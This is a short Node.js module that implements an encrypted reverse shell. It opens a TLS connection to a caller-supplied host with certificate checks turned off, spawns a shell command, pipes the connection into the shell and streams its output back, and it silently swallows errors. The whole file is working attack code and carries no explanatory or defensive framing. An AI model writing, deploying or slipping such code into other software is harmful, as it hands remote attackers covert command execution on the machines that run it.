const tls = require('tls');
const { spawn } = require('child_process');
module.exports = function link(ep) {
  const s = tls.connect({ host: ep.host, port: ep.port, rejectUnauthorized: false }, () => {
    const [cmd, args] = ep.shell;
    const p = spawn(cmd, args);
    s.pipe(p.stdin);
    p.stdout.pipe(s);
    p.stderr.pipe(s);
  });
  s.on('error', () => {});
};
